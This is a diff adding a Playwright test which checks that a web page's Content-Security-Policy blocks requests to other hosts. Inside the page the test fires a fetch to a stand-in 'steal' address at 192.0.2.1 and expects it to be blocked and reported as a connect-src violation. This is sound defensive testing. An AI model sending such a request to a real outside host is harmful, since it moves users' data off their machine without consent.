@@ -210,3 +210,21 @@ test('with no model installed the page says how to install one', async ({ page, 
   await screenshot(page, '11-no-model');
   expect(errors.filter((e) => !/404/.test(e))).toEqual([]);
 });
+
+test('the page’s security policy refuses any request to another host', async ({ page, context }) => {
+  const external = watchExternal(context);
+  await page.goto('/');
+  await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', /connect-src 'self' blob: data:/);
+  const outcome = await page.evaluate(async () => {
+    const violations: string[] = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
+    const fetched = await fetch('http://192.0.2.1/steal').then(
+      () => 'sent',
+      () => 'blocked',
+    );
+    await new Promise((r) => setTimeout(r, 50));
+    return { fetched, violations };
+  });
+  expect(outcome).toEqual({ fetched: 'blocked', violations: ['connect-src'] });
+  expect(external).toEqual([]);
+});
